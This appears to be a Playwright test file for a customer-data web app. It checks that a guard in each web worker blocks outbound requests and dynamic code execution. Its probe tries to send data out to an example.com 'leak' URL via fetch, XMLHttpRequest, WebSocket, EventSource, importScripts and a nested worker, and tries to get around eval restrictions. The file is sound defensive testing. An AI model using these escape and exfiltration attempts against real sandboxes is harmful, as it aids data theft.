// The workers hold the customer data, and the page's <meta> CSP does not reach them: each worker
// installs src/workers/guard.ts before any other code. From inside each worker (the two pipeline
// workers, the k-means workers, the read worker while it reads a file, and the periods worker that
// compares two periods) this tries to send data out and to run
// text as code; every attempt must fail. (Playwright's own worker.evaluate needs eval, which the
// guard removes, so the probe runs through the DevTools protocol's Runtime.evaluate.)
import { evaluateInWorkers, expect } from './helpers.mjs';

/** What the probe tries, as an expression evaluated in the worker (a promise of a JSON string). */
const PROBE = `(async () => {
  const r = { guard: self.__valuesegGuard === true };
  // Reached before the worker's script (and its guard) has run: nothing of the page's could run
  // there yet (no message reaches a worker before its script), so try nothing and be asked again.
  if (!r.guard) return JSON.stringify(r);
  const attempt = async (name, f) => {
    try {
      const v = await f();
      r[name] = 'ran: ' + String(v).slice(0, 60);
    } catch (e) {
      r[name] = 'blocked: ' + (e && e.name);
    }
  };
  await attempt('fetch', () => fetch('https://example.com/leak'));
  await attempt('fetch from the prototype chain', () => {
    for (let o = self; o; o = Object.getPrototypeOf(o)) {
      const d = Object.getOwnPropertyDescriptor(o, 'fetch');
      if (d && typeof d.value === 'function') return d.value.call(self, 'https://example.com/leak');
    }
    throw new TypeError('no fetch anywhere');
  });
  await attempt('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', 'https://example.com/leak'); x.send(); return 'sent'; });
  await attempt('WebSocket', () => new WebSocket('wss://example.com/leak'));
  await attempt('EventSource', () => new EventSource('https://example.com/leak'));
  await attempt('importScripts', () => importScripts('https://example.com/leak.js'));
  await attempt('nested Worker', () => new Worker('data:text/javascript,fetch("https://example.com/leak")'));
  await attempt('eval', () => eval('1 + 1'));
  await attempt('indirect eval', () => (0, self.eval)('1 + 1'));
  await attempt('new Function', () => new Function('return 1')());
  await attempt('a function constructor', () => (() => {}).constructor('return 1')());
  await attempt('an async function constructor', () => (async () => {}).constructor('return 1')());
  await attempt('a generator constructor', () => (function* () {}).constructor('yield 1')().next().value);
  await attempt('putting fetch back', () => { try { self.fetch = () => 'mine'; } catch {} try { delete self.fetch; } catch {} return self.fetch('x'); });
  return JSON.stringify(r);
})()`;

/** PROBE's answer from every matching worker (JSON-parsed); a probe before the guard has run is repeated. */
async function probeWorkers(context, page, want, count) {
  const raw = await evaluateInWorkers(context, page, want, count, PROBE, (v) => JSON.parse(v).guard === true);
  return Object.fromEntries(Object.entries(raw).map(([k, v]) => [k, JSON.parse(v)]));
}

function expectBlocked(results, count) {
  const urls = Object.keys(results);
  expect(urls.length >= count, `probed ${urls.length} worker(s), expected ${count}: ${urls.join(', ')}`);
  for (const [url, r] of Object.entries(results)) {
    expect(r.guard === true, `${url}: the guard did not run`);
    for (const [what, outcome] of Object.entries(r)) {
      if (what === 'guard') continue;
      expect(String(outcome).startsWith('blocked'), `${url}: ${what} was not blocked (${outcome})`);
    }
  }
}

export const tests = {
  async 'from inside each pipeline worker, fetch, XMLHttpRequest, WebSocket, EventSource, importScripts, nested workers, eval and Function are all blocked'({ page, base, context }) {
    await page.goto(base);
    await page.getByTestId('status').filter({ hasText: /600 customers/ }).waitFor({ timeout: 30_000 });
    const results = await probeWorkers(context, page, (u) => u.includes('pipeline.worker'), 2);
    expectBlocked(results, 2);
    // The page still computes after the probes.
    await page.getByTestId('status').filter({ hasText: /600 customers/ }).waitFor({ timeout: 30_000 });
  },

  async 'from inside each k-means worker of the full run, the same attempts are all blocked'({ page, base, context }) {
    await page.goto(base);
    await page.getByTestId('status').filter({ hasText: /600 customers/ }).waitFor({ timeout: 30_000 });
    const results = await probeWorkers(context, page, (u) => u.includes('kmeans.worker'), 1);
    expectBlocked(results, 1);
    await page.getByTestId('status').filter({ hasText: /600 customers/ }).waitFor({ timeout: 30_000 });
  },

  async 'from inside the read worker, while it reads a file, the same attempts are all blocked'({ page, base, context }) {
    await page.goto(base);
    await page.getByTestId('status').filter({ hasText: /600 customers/ }).waitFor({ timeout: 30_000 });
    // A file large enough (about 20 MB) that the worker is still reading when probed.
    const row = 'C0001,123.45,678.9,0.05,some text here\n';
    const buffer = Buffer.from('customer_id,deposits,loans,growth,note\n' + row.repeat(500_000));
    // On a quiet machine the worker reads it in about a second and is then ended, before a probe
    // could reach it: the page's CPU (its workers too) runs 6 times slower while it is probed.
    const throttle = await context.newCDPSession(page);
    await throttle.send('Emulation.setCPUThrottlingRate', { rate: 6 });
    await page.getByTestId('file-input').setInputFiles({ name: 'large.csv', mimeType: 'text/csv', buffer });
    await page.getByTestId('load-progress').waitFor({ timeout: 30_000 });
    const results = await probeWorkers(context, page, (u) => u.includes('read.worker'), 1);
    await throttle.send('Emulation.setCPUThrottlingRate', { rate: 1 });
    await throttle.detach();
    expectBlocked(results, 1);
    await page.getByTestId('cancel-load').click().catch(() => {});
  },

  async 'from inside the periods worker, which compares two periods, the same attempts are all blocked'({ page, base, context }) {
    // The page ends a periods worker as soon as it has answered (a few hundred ms), sooner than a
    // probe could reach it; for this test a periods worker is not ended, so it is probed after it
    // has compared (the guard is installed before its first message, so it is there either way).
    await page.addInitScript(() => {
      const Native = Worker;
      self.Worker = class extends Native {
        constructor(url, options) {
          super(url, options);
          this.kept = String(url).includes('periods.worker');
        }
        terminate() {
          if (!this.kept) super.terminate();
        }
      };
    });
    await page.goto(base);
    await page.getByTestId('status').filter({ hasText: /600 customers/ }).waitFor({ timeout: 30_000 });
    await page.getByTestId('start-template').click();
    await page.getByTestId('template-gallery').getByTestId('template-icbc-star').getByTestId('template-open').click();
    await page.getByTestId('segment-cards').waitFor({ timeout: 30_000 });
    await page.getByTestId('period2-example').click();
    await page.getByTestId('migration-matrix').waitFor({ timeout: 30_000 });
    const results = await probeWorkers(context, page, (u) => u.includes('periods.worker'), 1);
    expectBlocked(results, 1);
    // The comparison the page shows is still there after the probes.
    expect((await page.getByTestId('migration-matrix').count()) === 1, 'the migration matrix is still shown');
  },
};
